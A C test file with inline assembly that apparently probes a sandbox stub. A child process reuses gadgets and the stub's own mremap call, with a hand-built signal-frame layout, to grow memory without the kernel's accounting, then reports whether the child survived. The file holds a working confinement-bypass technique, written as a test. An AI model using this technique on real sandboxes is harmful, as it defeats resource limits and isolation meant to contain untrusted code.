// memory MIB: a child takes memory that the kernel is not asked for, by the stub's own mremap, and
// uses it. It says whether the child lived.
#include "kit.h"
#include "start.h"
#define AT 0x100000000UL
// grow_(at,old,0,u): mremap(at,old,u,0) at the stub's call, whose third argument is where a signal
// frame lies as well; so u is as high as the mapping is to be large.
long grow_(u64 at,u64 old,u64 none,struct uc*u);
asm(".text\n.globl grow_\ngrow_:\n push %rbx\n push %rbp\n push %r12\n push %r13\n push %r14\n push %r15\n"
 " mov %rcx,%rdx\n mov %rsp,160(%rdx)\n lea 1f(%rip),%r11\n mov %r11,168(%rdx)\n movq $0x202,176(%rdx)\n"
 " movabs $0x002b000000000033,%r11\n mov %r11,184(%rdx)\n"
 " xor %r10d,%r10d\n mov $25,%eax\n mov raw_target(%rip),%r11\n jmp *%r11\n"
 "1: pop %r15\n pop %r14\n pop %r13\n pop %r12\n pop %rbp\n pop %rbx\n ret\n");
static void take(u64 size){
  if(mmap_(AT,4096,3,M_PRIVATE|M_ANON|M_FIXED)!=(long)AT) die(3);
  struct uc*u=(void*)size;
  if(mmap_(size,4096,3,M_PRIVATE|M_ANON|M_FIXED)!=(long)size) die(4);
  u->ss_sp=slotAddr+0x1800; u->ss_size=slotSize-0x1800;
  raw_target=gA; grow_(AT,4096,0,u);
  for(u64 i=0;i<size;i+=4096) *(volatile u8*)(AT+i)=1;
}
int main_(int argc,char**argv){
  gadgets(); u64 size=(argc>1?atoi_(argv[1]):512)<<20;
  long s=try_(take,size,60000);
  say("signal of the child: ",s&0x7f); say("status of the child: ",s>>8); puts_("done\n"); return 0;
}
